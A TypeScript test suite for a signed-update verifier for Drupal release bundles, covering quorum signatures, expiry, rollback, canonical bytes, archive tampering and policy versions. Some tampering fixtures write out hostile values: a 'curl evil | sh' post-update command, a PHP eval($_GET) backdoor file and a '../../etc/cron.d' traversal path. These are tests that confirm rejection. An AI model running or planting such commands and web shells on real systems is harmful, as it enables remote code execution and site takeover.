import { expect } from 'chai';
import { concatBytes, toBase64 } from '../lib/core/bytes.js';
import { canonicalBytes } from '../lib/core/canonical.js';
import { createEnvelope, type Envelope } from '../lib/core/envelope.js';
import { UsageError, VerificationError, type ErrorCode } from '../lib/core/errors.js';
import { createPolicy } from '../lib/core/policy.js';
import { writeTar } from '../lib/core/tar.js';
import { verifyBundle, type BundleInput, type VerifyOptions } from '../lib/core/verify.js';
import { bundleInput, withArchive, makePolicy, makeRelease, manifestEnvelope, NOW, signedBy, type TestPolicy } from './support/fixtures.js';

async function rejection(input: BundleInput, opts: VerifyOptions): Promise<ErrorCode[]> {
  try {
    await verifyBundle(input, opts);
  } catch (err) {
    expect(err).to.be.instanceOf(VerificationError);
    return (err as VerificationError).reasons.map((r) => r.code);
  }
  throw new Error('expected verification to fail');
}

/** An archive input whose bytes must never be read (the envelope alone must decide). */
function untouchable(size: number): BundleInput['archive'] {
  return {
    size,
    chunks: () => {
      throw new Error('the archive was read before the envelope was trusted');
    },
  };
}

function tarOf(entries: Array<{ path: string; content: string; mode?: '0644' | '0755' }>): Uint8Array {
  const chunks: Uint8Array[] = [];
  writeTar(
    (c) => chunks.push(new Uint8Array(c)),
    entries.map((e) => ({ path: e.path, mode: e.mode ?? '0644', content: Buffer.from(e.content) })),
    0,
  );
  return concatBytes(...chunks);
}

describe('verifyBundle', () => {
  let p: TestPolicy;
  let opts: VerifyOptions;
  const release = makeRelease();
  const quorum = () => p.signers.slice(0, 3);

  beforeEach(() => {
    p = makePolicy(5, 3);
    opts = { trusted: p.trusted, now: NOW, site: { product: 'drupal', component: 'core', installed: '10.2.3' } };
  });

  it('accepts a release signed by a quorum and names who signed', async () => {
    const v = await verifyBundle(bundleInput(signedBy(release.envelope, quorum()), release.archive), opts);
    expect(v.document.kind).to.equal('manifest');
    expect(v.quorum.signedBy.map((s) => s.name)).to.deep.equal(['signer-0', 'signer-1', 'signer-2']);
  });

  it('rejects m-1 signatures with QUORUM_NOT_MET, without reading the archive', async () => {
    const env = signedBy(release.envelope, p.signers.slice(0, 2));
    expect(await rejection({ ...bundleInput(env), archive: untouchable(release.archive.length) }, opts)).to.deep.equal(['QUORUM_NOT_MET']);
  });

  describe('freshness and applicability', () => {
    it('rejects an expired manifest (EXPIRED)', async () => {
      const later = new Date('2026-12-21T00:00:00Z');
      expect(await rejection(bundleInput(signedBy(release.envelope, quorum()), release.archive), { ...opts, now: later })).to.deep.equal(['EXPIRED']);
    });

    it('rejects when the trusted policy has expired (POLICY_EXPIRED)', async () => {
      p = makePolicy(5, 3, { expires: new Date('2026-11-01T00:00:00Z') });
      const env = signedBy(release.envelope, quorum());
      expect(await rejection(bundleInput(env, release.archive), { ...opts, trusted: p.trusted })).to.deep.equal(['POLICY_EXPIRED']);
    });

    it('rejects an installed version outside applies-to (NOT_APPLICABLE)', async () => {
      const env = signedBy(release.envelope, quorum());
      expect(await rejection(bundleInput(env, release.archive), { ...opts, site: { installed: '10.1.0' } })).to.deep.equal(['NOT_APPLICABLE']);
    });

    it('rejects a version not greater than the installed one (ROLLBACK)', async () => {
      const env = signedBy(manifestEnvelope({ ...release.manifest, appliesTo: [] }), quorum());
      expect(await rejection(bundleInput(env, release.archive), { ...opts, site: { installed: '10.2.4' } })).to.deep.equal(['ROLLBACK']);
      expect(await rejection(bundleInput(env, release.archive), { ...opts, site: { installed: '10.3.0' } })).to.deep.equal(['ROLLBACK']);
    });

    it('reports every reason it found, each with its code', async () => {
      const env = signedBy(release.envelope, p.signers.slice(0, 1));
      const codes = await rejection(bundleInput(env, release.archive), { ...opts, now: new Date('2027-01-01T00:00:00Z'), site: { installed: '10.2.4' } });
      expect(codes).to.deep.equal(['QUORUM_NOT_MET', 'EXPIRED', 'NOT_APPLICABLE', 'ROLLBACK']);
    });

    it('rejects a manifest that expects a newer policy than the site trusts (POLICY_STALE)', async () => {
      const env = signedBy(manifestEnvelope({ ...release.manifest, policyVersion: 2 }), quorum());
      expect(await rejection(bundleInput(env, release.archive), opts)).to.deep.equal(['POLICY_STALE']);
    });
  });

  describe('exact, canonical bytes', () => {
    it('rejects a validly signed payload whose bytes are not canonical JSON (NOT_CANONICAL)', async () => {
      const pretty = new TextEncoder().encode(JSON.stringify(release.manifest, null, 1));
      const env = signedBy(createEnvelope('manifest', pretty), quorum());
      expect(await rejection(bundleInput(env, release.archive), opts)).to.deep.equal(['NOT_CANONICAL']);
    });

    it('rejects a payload with a duplicate key even when signed', async () => {
      const canonical = Buffer.from(canonicalBytes(release.manifest)).toString('utf8');
      const dup = new TextEncoder().encode(canonical.replace('{"advisory":null,', '{"advisory":null,"advisory":null,'));
      const env = signedBy(createEnvelope('manifest', dup), quorum());
      expect(await rejection(bundleInput(env, release.archive), opts)).to.deep.equal(['NOT_CANONICAL']);
    });

    it('rejects a risk score that is not what the vector computes (BAD_RISK_VECTOR)', async () => {
      const m = { ...release.manifest, risk: { ...release.manifest.risk!, score: 10, level: 'Moderately Critical' as const } };
      expect(await rejection(bundleInput(signedBy(manifestEnvelope(m), quorum()), release.archive), opts)).to.deep.equal(['BAD_RISK_VECTOR']);
    });

    it('rejects a payload edited after signing (signatures no longer verify)', async () => {
      const env = signedBy(release.envelope, quorum());
      const edited: Envelope = { ...env, payload: toBase64(canonicalBytes({ ...release.manifest, postUpdate: [['sh', '-c', 'curl evil | sh']] })) };
      expect(await rejection(bundleInput(edited, release.archive), opts)).to.deep.equal(['QUORUM_NOT_MET']);
    });

    it('rejects a policy envelope signed by the quorum when presented where a manifest was signed (type confusion)', async () => {
      // Same payload bytes, other payloadType: PAE binds the type, so the manifest signatures do not carry over.
      const env = signedBy(release.envelope, quorum());
      const confused: Envelope = { ...env, payloadType: 'application/vnd.countersign.policy+json' };
      const codes = await rejection(bundleInput(confused, release.archive), opts);
      // A format-2 manifest read as a policy claims a policy format this release does not know.
      expect(codes[0]).to.be.oneOf(['SCHEMA_INVALID', 'FORMAT_UNSUPPORTED', 'QUORUM_NOT_MET']);
    });
  });

  describe('tampering with the archive, caught before anything is extracted', () => {
    const signed = () => signedBy(release.envelope, quorum());

    it('a flipped byte: the header it falls in is not the rebuilt one, or the content is not the signed one', async () => {
      const bad = release.archive.slice();
      bad[100] = bad[100]! ^ 1;
      expect(await rejection(bundleInput(signed(), bad), opts)).to.deep.equal(['ARCHIVE_MALFORMED']);
      const content = release.archive.slice();
      content[512] = content[512]! ^ 1; // the first entry's first content byte
      expect(await rejection(bundleInput(signed(), content), opts)).to.deep.equal(['ENTRY_MISMATCH']);
    });

    it('truncated: DIGEST_MISMATCH without reading it', async () => {
      expect(await rejection({ ...bundleInput(signed()), archive: untouchable(release.archive.length - 512) }, opts)).to.deep.equal(['DIGEST_MISMATCH']);
    });

    it('extended: DIGEST_MISMATCH without reading it', async () => {
      expect(await rejection({ ...bundleInput(signed()), archive: untouchable(release.archive.length + 1) }, opts)).to.deep.equal(['DIGEST_MISMATCH']);
    });

    it('no archive at all: DIGEST_MISMATCH', async () => {
      expect(await rejection(bundleInput(signed()), opts)).to.deep.equal(['DIGEST_MISMATCH']);
    });

    const entries = [
      { path: 'core/bootstrap.inc', content: '<?php print htmlspecialchars($_GET["q"]);\n' },
      { path: 'core/lib/Drupal.php', content: "<?php class Drupal { const VERSION = '10.2.4'; }\n" },
      { path: 'core/lib/Sanitizer.php', content: '<?php // new\n', mode: '0755' as const },
    ];

    it('the reference archive rebuilt by hand matches the builder byte for byte', () => {
      expect(Buffer.from(tarOf(entries)).equals(Buffer.from(release.archive))).to.equal(true);
    });

    // For entry-level attacks the manifest's digest is updated and re-signed by the quorum, so that
    // only the entry checks stand between the archive and the site.
    for (const [name, tampered, code] of [
      ['an entry added', [...entries, { path: 'core/zz-backdoor.php', content: '<?php eval($_GET["x"]);\n' }], 'ENTRY_EXTRA'],
      ['an entry removed', entries.slice(0, 2), 'ENTRY_MISSING'],
      ['an entry renamed', [entries[0]!, { ...entries[1]!, path: 'core/lib/Drupal2.php' }, entries[2]!], 'ENTRY_EXTRA'],
      ['an entry whose content differs', [entries[0]!, { ...entries[1]!, content: '<?php evil();\n' }, entries[2]!], 'ENTRY_MISMATCH'],
    ] as const) {
      it(`${name}: ${code}`, async () => {
        const archive = tarOf([...tampered]);
        const env = signedBy(manifestEnvelope(withArchive(release.manifest, archive)), quorum());
        expect(await rejection(bundleInput(env, archive), opts)).to.include(code);
      });
    }

    it('an unsafe path in a signed manifest: UNSAFE_PATH, and the archive is never read', async () => {
      const m = {
        ...release.manifest,
        files: [...release.manifest.files, { op: 'add' as const, path: '../../etc/cron.d/x', sha256: '0'.repeat(64), size: 1, mode: '0644' as const }],
      };
      const env = signedBy(manifestEnvelope(m), quorum());
      expect(await rejection({ ...bundleInput(env), archive: untouchable(release.archive.length) }, opts)).to.deep.equal(['UNSAFE_PATH']);
    });

    it('an archive above the size cap: SIZE_LIMIT before parsing anything', async () => {
      const codes = await rejection({ ...bundleInput(signed()), archive: untouchable(release.archive.length) }, { ...opts, limits: { maxArchiveBytes: 1024 } });
      expect(codes).to.deep.equal(['SIZE_LIMIT']);
    });

    it('an envelope above the size cap: SIZE_LIMIT', async () => {
      const codes = await rejection({ ...bundleInput(signed()), archive: untouchable(release.archive.length) }, { ...opts, limits: { maxEnvelopeBytes: 100 } });
      expect(codes).to.deep.equal(['SIZE_LIMIT']);
    });

    it('more files than the entry cap: SIZE_LIMIT', async () => {
      const codes = await rejection({ ...bundleInput(signed()), archive: untouchable(release.archive.length) }, { ...opts, limits: { maxEntries: 2 } });
      expect(codes).to.deep.equal(['SIZE_LIMIT']);
    });
  });

  describe('the site it is meant for', () => {
    it('rejects a release for another product (WRONG_TARGET)', async () => {
      const env = signedBy(release.envelope, quorum());
      expect(await rejection(bundleInput(env, release.archive), { ...opts, site: { ...opts.site, product: 'wordpress' } })).to.deep.equal(['WRONG_TARGET']);
    });

    it('rejects a release for another component (WRONG_TARGET)', async () => {
      const env = signedBy(release.envelope, quorum());
      expect(await rejection(bundleInput(env, release.archive), { ...opts, site: { ...opts.site, component: 'views' } })).to.deep.equal(['WRONG_TARGET']);
    });

    it('says which site checks it skipped when the caller did not say what the site runs', async () => {
      const v = await verifyBundle(bundleInput(signedBy(release.envelope, quorum()), release.archive), { ...opts, site: {} });
      expect(v.notChecked).to.deep.equal(['product', 'component', 'installed']);
    });
  });

  describe("the caller's own inputs", () => {
    it('an invalid reference time is a usage error, never a pass (expiry fails closed)', async () => {
      const env = signedBy(release.envelope, quorum());
      for (const now of [new Date('bogus'), new Date(NaN)]) {
        await verifyBundle(bundleInput(env, release.archive), { ...opts, now }).then(
          () => expect.fail('accepted with an invalid time'),
          (err: unknown) => expect(err).to.be.instanceOf(UsageError),
        );
      }
    });

    it('a malformed installed version is a usage error, not a hidden rejection', async () => {
      const env = signedBy(release.envelope, p.signers.slice(0, 1));
      await verifyBundle(bundleInput(env, release.archive), { ...opts, site: { installed: '10.2.x' } }).then(
        () => expect.fail('accepted'),
        (err: unknown) => expect(err).to.be.instanceOf(UsageError),
      );
    });

    it('an archive that cannot be read mid-stream is a coded reason, not a crash', async () => {
      const env = signedBy(release.envelope, quorum());
      const failing: BundleInput['archive'] = {
        size: release.archive.length,
        chunks: async function* () {
          yield release.archive.subarray(0, 512);
          throw Object.assign(new Error('gone'), { code: 'ENOENT' });
        },
      };
      expect(await rejection({ ...bundleInput(env), archive: failing }, opts)).to.deep.equal(['IO']);
    });
  });

  describe('policy documents', () => {
    it('the trusted policy itself verifies', async () => {
      const v = await verifyBundle(bundleInput(p.signed), opts);
      expect(v.document.kind).to.equal('policy');
    });

    it('a policy with bytes after it is rejected (a policy carries no archive)', async () => {
      expect(await rejection(bundleInput(p.signed, new Uint8Array(3)), opts)).to.deep.equal(['ARCHIVE_MALFORMED']);
    });

    it('another version-1 policy signed by the trusted quorum is a replay (POLICY_ROLLBACK)', async () => {
      const other = createPolicy({
        threshold: 3,
        signers: p.signers.map((s) => ({ publicKey: s.publicKey, name: `${s.name}-other` })),
        expires: new Date('2030-01-01'),
      });
      const env = signedBy(createEnvelope('policy', canonicalBytes(other)), quorum());
      expect(await rejection(bundleInput(env), opts)).to.deep.equal(['POLICY_ROLLBACK']);
    });

    it('a version that skips ahead is rejected (POLICY_VERSION_GAP), as is an expired one', async () => {
      const v3 = createPolicy({
        threshold: 3,
        signers: p.signers.map((s) => ({ publicKey: s.publicKey, name: s.name })),
        expires: new Date('2026-11-01'),
        version: 3,
      });
      const env = signedBy(createEnvelope('policy', canonicalBytes(v3)), quorum());
      expect(await rejection(bundleInput(env), opts)).to.deep.equal(['POLICY_VERSION_GAP', 'POLICY_EXPIRED']);
    });

    it('version N+1 needs the quorum of its own keys too', async () => {
      const newcomers = makePolicy(3, 2).signers;
      const v2 = createPolicy({
        threshold: 2,
        signers: newcomers.map((s) => ({ publicKey: s.publicKey, name: s.name })),
        expires: new Date('2030-01-01'),
        version: 2,
      });
      const unsigned = createEnvelope('policy', canonicalBytes(v2));
      expect(await rejection(bundleInput(signedBy(unsigned, quorum())), opts)).to.deep.equal(['QUORUM_NOT_MET']);
      const v = await verifyBundle(bundleInput(signedBy(unsigned, [...quorum(), ...newcomers.slice(0, 2)])), opts);
      expect(v.document.kind).to.equal('policy');
    });
  });
});
